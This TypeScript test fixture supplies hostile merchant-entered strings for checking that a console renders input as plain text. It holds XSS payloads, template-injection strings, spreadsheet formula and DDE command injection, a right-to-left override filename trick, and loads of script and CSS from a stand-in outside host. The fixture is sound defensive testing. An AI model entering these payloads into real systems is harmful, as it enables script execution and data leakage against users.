/** What a merchant may write, and a console must show as text. Each would run, or call somewhere, if it were read as anything else. */

/** Set by whatever runs. */
export const RAN = "__ran";
const SET = `window.${RAN}=1`;
/** Nobody's: a request there is a leak. */
export const ELSEWHERE = "https://elsewhere.example";

/** Where any printable text goes. */
export const HOSTILE_TEXTS = [
  `<img src=x onerror="${SET}">`,
  `"><script>${SET}</script><script src="${ELSEWHERE}/x.js"></script>`,
  `' onfocus='${SET}' autofocus='`,
  `javascript:${SET}`,
  `=HYPERLINK("${ELSEWHERE}/","click")`,
  `\u202Egnp.exe <svg onload="${SET}">`,
  `{{constructor.constructor('${SET}')()}} \${${SET}}`,
  `<a href="javascript:${SET}">👩‍👩‍👧‍👦🏴‍☠️ ﷽ Z̷̧̛͎a̸lgo</a>`,
  `<style>@import "${ELSEWHERE}/x.css";</style>`,
  "W".repeat(200),
] as const;

/** Where visible ASCII goes, without spaces and `#`. */
export const HOSTILE_WORDS = [
  `"><svg/onload=${SET}>`,
  `javascript:${SET}`,
  `=HYPERLINK("${ELSEWHERE}/")`,
  `'/**/onfocus='${SET}`,
  "@SUM(1+1)*cmd|'/C_calc'!A0",
  "W".repeat(64),
] as const;

/** What a merchant writes where it may: the nth text, and the nth word, which no other is like. */
export interface Words {
  text(n: number): string;
  word(n: number): string;
}

export const HOSTILE: Words = {
  text: (n) => HOSTILE_TEXTS[n % HOSTILE_TEXTS.length] ?? "",
  word: (n) => `${HOSTILE_WORDS[n % HOSTILE_WORDS.length]?.slice(0, 60 - String(n).length)}-${n}`,
};
